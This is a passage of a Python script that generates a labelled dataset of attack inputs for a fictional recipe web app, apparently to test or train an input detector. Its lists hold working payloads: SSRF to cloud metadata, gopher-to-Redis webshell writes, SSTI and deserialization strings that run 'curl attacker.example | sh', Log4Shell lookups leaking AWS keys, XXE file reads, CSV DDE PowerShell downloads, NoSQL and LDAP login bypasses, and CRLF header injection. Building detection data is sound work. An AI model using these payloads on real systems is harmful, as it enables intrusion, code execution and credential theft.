    ("photo-url-aws-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("photo-url-ipv6-loopback", "http://[::1]:5000/api/internal/flags"),
    ("photo-url-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]:9200/_cat/indices"),
    ("photo-url-zero-ip-docker-api", "http://0.0.0.0:2375/containers/json"),
    ("import-url-userinfo-confusion", "https://recipes.example@127.0.0.1:8500/v1/kv/?recurse"),
    ("import-url-fragment-confusion", "http://127.0.0.1:10250/pods#@recipes.example"),
    ("import-url-open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("import-url-dns-rebinding", "http://rebind.attacker.example:8080/admin"),
    ("supplier-webhook-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("supplier-webhook-gopher-smtp", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cnoreply@recipes.example%3E%0D%0ARCPT%20TO:%3Cvictim@example.org%3E%0D%0ADATA%0D%0ASubject:%20Password%20reset%0D%0A%0D%0Ahttps://attacker.example/reset%0D%0A.%0D%0AQUIT%0D%0A"),
    ("photo-url-file-scheme", "file:///etc/passwd"),
    ("photo-url-file-scheme-localhost", "file://localhost/proc/self/environ"),
    ("feed-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("feed-url-ftp-internal", "ftp://10.0.0.5/backups/db.sql"),
    ("pdf-render-url-internal-host", "http://kitchen-pos.internal:8443/api/v1/staff"),
    ("pdf-render-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("oembed-url-private-range", "http://10.0.0.1/cgi-bin/luci"),
    ("oembed-url-private-192", "http://192.168.1.1/admin/config.bin"),
    ("photo-url-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①/admin"),
    ("photo-url-loopback+hex-ip", "http://0x7f.1/admin"),
    ("photo-url-loopback+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("import-url-aws-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("import-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("photo-url-redis-crlf-smuggle", "http://127.0.0.1:6379/%0D%0ASET%20pwn%201%0D%0A"),
    ("import-json-digitalocean-metadata", "{\"source_url\": \"http://169.254.169.254/metadata/v1.json\", \"title\": \"Imported pasta\"}"),
    ("feed-url-trailing-dot-localhost", "http://localhost.:8000/debug/vars"),
    ("feed-url-ipv6-unspecified", "http://[::]:3000/"),
    ("photo-url-ipv4-mapped+hex-ip", "http://[0:0:0:0:0:ffff:7f00:1]/"),
    ("import-url-oci-metadata", "http://169.254.169.254/opc/v2/instance/"),
    ("supplier-webhook-loopback+double-urlenc", "http%253A%252F%252F127.0.0.1%253A8080%252Fadmin"),
    ("photo-url-backslash-host-confusion", "https://127.0.0.1\\@cdn.recipes.example/photo.jpg"),
    ("import-url-jar-scheme", "jar:http://attacker.example/r.jar!/RecipeImporter.class"),
    ("photo-url-internal-consul", "http://consul.service.consul:8500/v1/agent/self"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://127.0.0.1/"),
    ("plain-file-scheme", "file:///c:/windows/win.ini"),
]

SSRF_FIELDS = ["import-url", "photo-url", "feed-url", "supplier-webhook"]
SSRF_HOSTS = [
    ("127.0.0.1", "loopback", ""), ("2130706433", "loopback", "+decimal-ip"),
    ("0x7f000001", "loopback", "+hex-ip"), ("017700000001", "loopback", "+octal-ip"),
    ("[::1]", "ipv6-loopback", ""), ("169.254.169.254", "metadata", ""),
    ("0xa9fea9fe", "metadata", "+hex-ip"), ("0251.0376.0251.0376", "metadata", "+octal-ip"),
    ("10.0.0.12", "private-range", ""), ("172.17.0.1", "docker-bridge", ""),
    ("localhost", "localhost", ""), ("0", "zero-ip", ""),
]
SSRF_SVC = [(":6379", "/"), (":9200", "/_search?q=*"), (":8500", "/v1/kv/?recurse"),
            (":2379", "/v2/keys/?recursive=true"), ("", "/latest/meta-data/"),
            (":8080", "/actuator/env"), (":5984", "/_all_dbs"), (":15672", "/api/users")]


def gen_ssrf(rng):
    host, what, enc = rng.choice(SSRF_HOSTS)
    port, path = rng.choice(SSRF_SVC)
    if what == "metadata":
        port, path = "", rng.choice(["/latest/meta-data/", "/latest/user-data",
                                     "/metadata/v1/", "/latest/meta-data/hostname"])
    if rng.randint(0, 4) == 0:
        return "plain-%s%s" % (what, enc), "http://%s%s%s" % (host, port, path)
    field = rng.choice(SSRF_FIELDS)
    return "%s-%s%s" % (field, what, enc), "http://%s%s%s" % (host, port, path)


# ==========================================================================
# code (SSTI, expression languages, deserialization, XXE, Log4Shell-style lookups,
#       prototype pollution, CSV formula)
# ==========================================================================
CODE = [
    ("title-ssti-jinja2-config", "{{ config.items() }}"),
    ("title-ssti-jinja2-cycler", "Pasta {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("review-ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("review-ssti-jinja2-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("review-ssti-jinja2-attr-filter+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("menu-ssti-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("menu-ssti-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("email-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("email-template-velocity-runtime", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("review-ssti-erb-backtick", "<%= `cat /etc/passwd` %>"),
    ("review-ssti-erb-system", "Nice recipe <%= system('curl http://attacker.example/$(whoami)') %>"),
    ("title-ssti-mako", "<% import os %>${os.popen('id').read()}"),
    ("title-ssti-smarty", "Pie {system('id')}"),
    ("title-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("title-ssti-django-settings", "{{ settings.SECRET_KEY }}"),
    ("menu-ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("review-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("search-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("title-el-servlet-context", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("title-ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("review-ssti-ejs", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("review-ssti-nunjucks-range", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("review-ssti-jinja2+unicode-escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005fmro\\u005f\\u005f'][1]['\\u005f\\u005fsubclasses\\u005f\\u005f']() }}"),
    ("method-step-ssti-jinja2-popen-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}\n{% if c.__name__ == 'Popen' %}{{ c('id', shell=True, stdout=-1).communicate() }}{% endif %}\n{% endfor %}"),
    ("review-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("search-log4shell-nested-lookup", "${${lower:j}ndi:${lower:l}dap://log.attacker.example/x}"),
    ("ticket-note-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("supplier-name-log4shell-rmi", "Smith & Sons ${jndi:rmi://198.51.100.14:1099/obj}"),
    ("search-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.8/x}"),
    ("review-json-log4shell+unicode-escape", "{\"comment\": \"\\u0024{jndi:ldap://attacker.example/c}\", \"rating\": 4}"),
    ("search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("cart-cookie-php-object-injection", "O:14:\"RecipeExporter\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("cart-cookie-php-object-webshell", "O:10:\"CartLogger\":2:{s:7:\"logfile\";s:28:\"/var/www/html/uploads/sh.php\";s:4:\"line\";s:28:\"<?php system($_GET[\"c\"]); ?>\";}"),
    ("session-pickle-base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL2sgfCBzaCcKdFIu"),
    ("recipe-import-pickle-protocol0", "cos\nsystem\n(S'id > /tmp/owned'\ntR."),
    ("recipe-import-yaml-python-apply", "title: Scones\ningredients: !!python/object/apply:os.system [\"curl http://attacker.example/x | sh\"]"),
    ("recipe-import-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("menu-import-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("menu-import-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("menu-import-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.30:1099/x\",\"autoCommit\":true}"),
    ("profile-node-serialize-iife", "{\"nickname\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("recipe-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE recipe [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<recipe><title>&xxe;</title><ingredient>1 cup flour</ingredient></recipe>"),
    ("recipe-xml-xxe-parameter-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]>\n<recipeml><recipe><head><title>Scones</title></head></recipe></recipeml>"),
    ("menu-xml-xxe-ssrf-metadata", "<!DOCTYPE menu [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><menu><item>&m;</item></menu>"),
    ("recipe-xml-billion-laughs", "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]><recipe><note>&h;</note></recipe>"),
    ("recipe-xml-xinclude", "<recipe xmlns:xi=\"http://www.w3.org/2001/XInclude\"><title>Bread</title><notes><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></notes></recipe>"),
    ("photo-upload-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("invoice-xml-xxe-php-filter", "<!DOCTYPE inv [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><invoice><supplier>&s;</supplier><total>84.00</total></invoice>"),
    ("profile-json-proto-pollution", "{\"display_name\":\"Pancake Pete\",\"__proto__\":{\"isAdmin\":true}}"),
    ("recipe-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}},\"servings\":4}"),
    ("search-query-proto-pollution", "__proto__[isAdmin]=true&q=pancakes"),
    ("settings-json-proto-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("settings-setpath-proto-pollution", "{\"path\":\"constructor.prototype.isAdmin\",\"value\":true}"),
    ("ingredient-export-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for nutrition info\")"),
    ("invoice-export-csv-dde", "=cmd|' /C powershell -w hidden iwr attacker.example/p.ps1|iex'!A1"),
    ("review-export-csv-at-sum-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("menu-export-csv-minus-dde", "-2+3+cmd|' /C explorer https://attacker.example'!A0"),
    ("order-export-csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/x?\",A1:Z9),\"//a\")"),
    ("supplier-export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/log?x=\"&ENCODEURL(C2))"),
    ("recipe-note-csv-plus-formula", "+IMPORTDATA(\"https://attacker.example/exfil?\"&B3)"),
    ("nutrition-calc-python-eval", "__import__('os').popen('id').read()"),
    ("nutrition-calc-python-subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)"),
    ("scale-recipe-node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("scale-recipe-php-eval", "1;system('id');"),
    ("kitchen-rule-groovy-eval", "'curl http://attacker.example/g'.execute().text"),
    ("title-ssti-jinja2+urlenc", "%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%7D%7D"),
    ("plain-ssti-jinja2", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("plain-log4shell", "${jndi:ldap://203.0.113.5/x}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/shadow\">]><x>&f;</x>"),
    ("plain-csv-formula-dde", "=cmd|'/c notepad'!A1"),
]

CODE_PREFIX = ["Pancakes", "Best-ever chili", "Lemon tart", "Nonna's ragù", "Miso soup",
               "T9 seat 2", "5/5 loved it", "Banana bread v2"]
CODE_JINJA_ROOT = ["cycler.__init__", "joiner.__init__", "namespace.__init__",
                   "url_for", "get_flashed_messages", "lipsum"]
CODE_CMDS = ["id", "uname -a", "cat /etc/passwd", "env", "ls /", "hostname",
             "curl -s attacker.example/x|sh"]
CODE_JNDI = ["ldap", "rmi", "dns", "ldaps", "iiop"]


def gen_code(rng):
    kind = rng.randint(0, 3)
    cmd = rng.choice(CODE_CMDS)
    if kind == 0:
        root = rng.choice(CODE_JINJA_ROOT)
        return "title-ssti-jinja2-globals", "%s {{ %s.__globals__.os.popen('%s').read() }}" % (
            rng.choice(CODE_PREFIX), root, cmd)
    if kind == 1:
        proto = rng.choice(CODE_JNDI)
        host = rng.choice(["attacker.example", "203.0.113.%d" % rng.randint(2, 250),
                           "c2.attacker.example", "198.51.100.%d" % rng.randint(2, 250)])
        return "review-log4shell-%s" % proto, "%s ${jndi:%s://%s/%s}" % (
            rng.choice(CODE_PREFIX), proto, host, rng.choice(["a", "x", "Exploit", "r"]))
    if kind == 2:
        col = rng.choice("ABCDEFGH") + str(rng.randint(1, 40))
        return "order-export-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/c?v=\"&%s,\"Re-order\")" % col
    return "plain-ssti-jinja2", "{{ %s.__globals__.os.popen('%s').read() }}" % (
        rng.choice(CODE_JINJA_ROOT), cmd)


# ==========================================================================
# nosqli
# ==========================================================================
NOSQLI = [
    ("staff-login-json-ne", "{\"username\": \"chef.ana\", \"password\": {\"$ne\": null}}"),
    ("staff-login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("staff-login-query-ne", "username=admin&password[$ne]=x"),
    ("staff-login-json-regex-blind", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^s3\"}}"),
    ("recipe-search-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("recipe-search-where-string-breakout", "'; return this.role == 'admin'; var x='"),
    ("recipe-filter-json-nin", "{\"owner_id\": {\"$nin\": []}, \"status\": \"private\"}"),
    ("recipe-search-query-regex", "title[$regex]=.*&title[$options]=si"),
    ("recipe-search-json-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 0]}}"),
    ("report-pipeline-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"author_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("staff-login-json-or", "{\"$or\": [{\"username\": \"admin\"}, {\"username\": {\"$ne\": \"\"}}], \"password\": {\"$ne\": \"\"}}"),
    ("recipe-search-where-function", "{\"$where\": \"function(){ return this.api_key.match(/^k/) != null; }\"}"),
    ("password-reset-token-ne", "{\"email\": \"owner@recipes.example\", \"token\": {\"$ne\": \"\"}}"),
    ("couch-mango-selector-regex", "{\"selector\": {\"password\": {\"$regex\": \".*\"}}, \"fields\": [\"email\", \"password\"]}"),
    ("staff-login-query-gt+urlenc", "username%5B%24gt%5D=&password%5B%24gt%5D="),
    ("profile-update-set-operator", "{\"bio\": \"I love baking sourdough\", \"$set\": {\"role\": \"admin\"}}"),
    ("recipe-search-where-sleep-breakout", "pancakes'; sleep(5000); var z='"),
    ("staff-login-json-ne+unicode-escape", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": 1}}"),
    ("recipe-search-json-regex-redos", "{\"title\": {\"$regex\": \"^(a|a)+$\"}, \"tags\": \"dessert\"}"),
    ("rating-filter-json-where", "{\"rating\": 5, \"$where\": \"this.email.indexOf('@recipes.example') > 0\"}"),
    ("kitchen-order-json-exists", "{\"table\": {\"$exists\": true}, \"card_last4\": {\"$ne\": null}}"),
    ("supplier-query-regex-brackets", "supplier[$regex]=^G&invoice_total[$gt]=0"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-query-regex", "password[$regex]=.*"),
]

NOSQL_USERS = ["admin", "chef.ana", "headchef", "manager", "owner", "expo"]
NOSQL_OPS = [("$ne", "\"x\""), ("$gt", "\"\""), ("$regex", "\".*\""), ("$exists", "true"),
             ("$nin", "[\"\"]")]


def gen_nosqli(rng):
    user = rng.choice(NOSQL_USERS)
    op, val = rng.choice(NOSQL_OPS)
    if rng.randint(0, 1):
        return "staff-login-json-%s" % op[1:], "{\"username\": \"%s\", \"password\": {\"%s\": %s}}" % (user, op, val)
    return "staff-login-query-%s" % op[1:], "username=%s&pin[%s]=%s" % (
        user, op, rng.choice(["1", "0", "x", ""]))


# ==========================================================================
# crlf (log / header / mail injection)
# ==========================================================================
CRLF = [
    ("search-log-forged-entry", "pancakes\n2024-03-12 10:15:02 INFO user=admin action=login status=success ip=10.0.0.2"),
    ("search-log-forged-entry+urlenc", "ramen%0d%0a2024-03-12T10:16:00Z AUDIT haccp.override approved_by=head_chef"),
    ("haccp-note-log-falsified-readings", "3.1 °C OK JM\n2024-03-12 14:00 | Walk-in cooler | 3.0 °C | JM\n2024-03-12 18:00 | Walk-in cooler | 2.9 °C | JM"),
    ("redirect-next-set-cookie+urlenc", "/recipes/4471%0d%0aSet-Cookie:%20session=attacker-fixed-123;%20Path=/"),
    ("redirect-next-response-split", "/menu\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-next-location-override", "https://recipes.example/r/1\r\nLocation: https://attacker.example/login"),
    ("invoice-download-filename-header", "invoice.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1><a href=https://attacker.example>log in</a>"),
    ("share-recipe-mail-name-bcc", "Maria\r\nBcc: list1@attacker.example, list2@attacker.example"),
    ("share-recipe-mail-subject-cc", "Try this lasagna!\r\nCc: everyone@attacker.example\r\nX-Priority: 1"),
    ("share-recipe-mail-body-content-type", "Chef Ana\nContent-Type: text/html\n\n<a href=\"https://attacker.example/claim\">Claim your free cookbook</a>"),
    ("share-recipe-mail-to-bcc", "friend@example.org\nBcc: victim1@example.net\nSubject: Your account is locked"),
    ("lang-cookie-set-cookie", "fr\r\nSet-Cookie: role=admin; Path=/"),
    ("search-header-set-cookie+unicode-truncation", "pancakes\u560d\u560aSet-Cookie: x=1"),
    ("recipe-title-log-ansi-escape", "Tiramisu\x1b[2K\x1b[1A\x1b[32mINFO all checks passed\x1b[0m"),
    ("search-json-log-forge", "soup\",\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password changed"),
    ("redirect-next-set-cookie+double-urlenc", "/r/1%250d%250aSet-Cookie:%2520sid%253Dattacker"),
    ("download-header-x-accel-redirect+urlenc", "menu.pdf%0aX-Accel-Redirect:%20/internal/admin/export"),
    ("contact-form-smtp-command-injection", "Great recipe!\r\n.\r\nMAIL FROM:<admin@recipes.example>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\nSubject: Reset\r\n\r\nhttps://attacker.example/reset\r\n.\r\n"),
    ("ticket-note-syslog-forge", "Brownies\r\n<134>Mar 12 10:20:01 kitchen-pos sudo: chef : TTY=pts/0 ; PWD=/home/chef ; USER=root ; COMMAND=/bin/bash"),
    ("import-useragent-outbound-header", "recipes-bot/1.0\r\nHost: internal-admin.local\r\nX-Forwarded-For: 127.0.0.1"),
    ("share-recipe-mail-reply-to", "Chef Ana <ana@recipes.example>\nReply-To: billing@attacker.example"),
    ("supplier-webhook-header-injection", "application/json\r\nAuthorization: Bearer FAKE-PLACEHOLDER-TOKEN"),
    ("haccp-log-forged-signoff+urlenc", "Fridge 2 OK%0a2024-03-12 22:00 VERIFIED all CCPs by head_chef%0a"),
    ("review-log-newline-fake-admin", "5/5\n[2024-03-12 11:02:17] admin deleted review #8812 (spam)"),
    ("plain-crlf-set-cookie+urlenc", "%0d%0aSet-Cookie:crlf=injected"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
]

CRLF_FIELDS = ["pancakes", "pho", "sourdough", "T12 ALL DAY 4 x risotto", "Walk-in 3.2 °C",
               "INV-2024-00871", "vegan brownies"]
CRLF_LOG_LINES = ["INFO user=admin login ok", "WARN haccp check skipped by=system",
                  "AUDIT role_change user=eve role=admin", "INFO payment refund approved amount=950.00",
                  "INFO temp_log fridge1=2.9C ok"]
CRLF_HEADERS = ["Set-Cookie: sid=attacker-fixed", "Location: https://attacker.example/",
                "Access-Control-Allow-Origin: https://attacker.example",
                "Refresh: 0; url=https://attacker.example/"]


def gen_crlf(rng):
    f = rng.choice(CRLF_FIELDS)
    if rng.randint(0, 1):
        nl = rng.choice([("\n", ""), ("\r\n", ""), ("%0a", "+urlenc"), ("%0d%0a", "+urlenc")])
        return "search-log-forged-entry%s" % nl[1], "%s%s2024-03-%02d %02d:%02d:%02d %s" % (
            f, nl[0], rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59),
            rng.randint(0, 59), rng.choice(CRLF_LOG_LINES))
    h = rng.choice(CRLF_HEADERS)
    if rng.randint(0, 1):
        return "redirect-next-header-injection", "/recipes/%d\r\n%s" % (rng.randint(1, 9999), h)
    return "redirect-next-header-injection+urlenc", "/recipes/%d%%0d%%0a%s" % (
        rng.randint(1, 9999), h.replace(" ", "%20"))


# ==========================================================================
# ldap-xpath
# ==========================================================================
LDAP_XPATH = [
    ("staff-login-ldap-wildcard", "*"),
    ("staff-login-ldap-or-breakout", "*)(uid=*))(|(uid=*"),
    ("staff-login-ldap-true-filter", "chef.ana)(&)"),
    ("staff-login-ldap-password-blind", "admin)(userPassword=a*"),
    ("staff-directory-ldap-description-leak", "*)(description=*pass*"),
    ("staff-directory-ldap-or-breakout+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("staff-group-ldap-memberof", "kitchen)(|(memberOf=cn=admins,ou=groups,dc=recipes,dc=example)"),
    ("staff-login-ldap-nullbyte+urlenc", "admin)%00"),
    ("recipe-xml-search-xpath-or", "' or '1'='1"),
    ("recipe-xml-search-xpath-or", "pancakes' or 1=1 or 'a'='b"),
    ("staff-xml-login-xpath-or", "admin' or '1'='1"),
    ("recipe-xml-xpath-count-blind", "x' or count(/recipes/*)>10 or 'a'='b"),
    ("recipe-xml-xpath-substring-blind", "x' or substring(//user[1]/password,1,1)='s' or 'a'='b"),
    ("menu-xml-xpath-union", "']|//supplier/bank_account|//*['"),
    ("recipe-xml-xpath-name-enum", "x' or name(/*[1])='recipes' or 'a'='b"),
    ("recipe-xml-xpath-doc-oob", "x' or doc(concat('http://attacker.example/',//user[1]/password)) or 'a'='b"),
    ("recipe-xml-xpath-string-length", "x' or string-length(//user[position()=1]/password)=12 or 'a'='b"),
    ("recipe-xml-id-xpath-or", "1 or 1=1"),
    ("plain-ldap-or", "*)(|(objectClass=*)"),
    ("plain-xpath-or", "' or ''='"),
]

LX_FIELDS = ["password", "pin", "email", "api_key"]
LX_CHARS = "abcdefghijklmnopqrstuvwxyz0123456789"


def gen_ldap_xpath(rng):
    if rng.randint(0, 1):
        return "recipe-xml-xpath-substring-blind", "x' or substring(//user[%d]/%s,%d,1)='%s' or 'a'='b" % (
            rng.randint(1, 5), rng.choice(LX_FIELDS), rng.randint(1, 20), rng.choice(LX_CHARS))
    return "staff-login-ldap-password-blind", "%s)(userPassword=%s*" % (
        rng.choice(["admin", "headchef", "manager", "chef.ana"]),
        "".join(rng.choice(LX_CHARS) for _ in range(rng.randint(1, 4))))


# ==========================================================================
CATEGORIES = [
    ("sqli", SQLI, gen_sqli),
    ("xss", XSS, gen_xss),
    ("cmdi", CMDI, gen_cmdi),
    ("traversal", TRAVERSAL, gen_traversal),
    ("ssrf", SSRF, gen_ssrf),
    ("code", CODE, gen_code),
    ("nosqli", NOSQLI, gen_nosqli),
    ("crlf", CRLF, gen_crlf),
    ("ldap-xpath", LDAP_XPATH, gen_ldap_xpath),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for category, literals, gen in CATEGORIES:
        target = TARGETS[category]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (category, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        tries = 0
        while len(items) < target:
            tries += 1
            if tries > 20000:
                raise SystemExit("template pool too small for " + category)
            cls, v = gen(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit("bad value in %s: %r" % (category, v))
            rows.append({"category": category, "class": cls, "value": v})
        stats.append((category, len(items), n_lit))

    # cross-file check: no attack value may also be a benign value
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [r["value"] for r in rows if r["value"] in benign_values]
        if clash:
            raise SystemExit("value present in both files: %r" % clash[0])

    out = Path(__file__).with_name(OUT_NAME)
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": "%s-%05d" % (PREFIX, i), "category": row["category"],
                   "class": row["class"], "label": "attack", "value": row["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for category, n, n_lit in stats:
        total_lit += n_lit
        print("%-12s %4d  (literals %d)" % (category, n, n_lit))
    print("%-12s %4d  (literals %d = %.1f%%)" % ("TOTAL", len(rows), total_lit,
                                                 100.0 * total_lit / len(rows)))
    print("wrote", out)


if __name__ == "__main__":
    main()
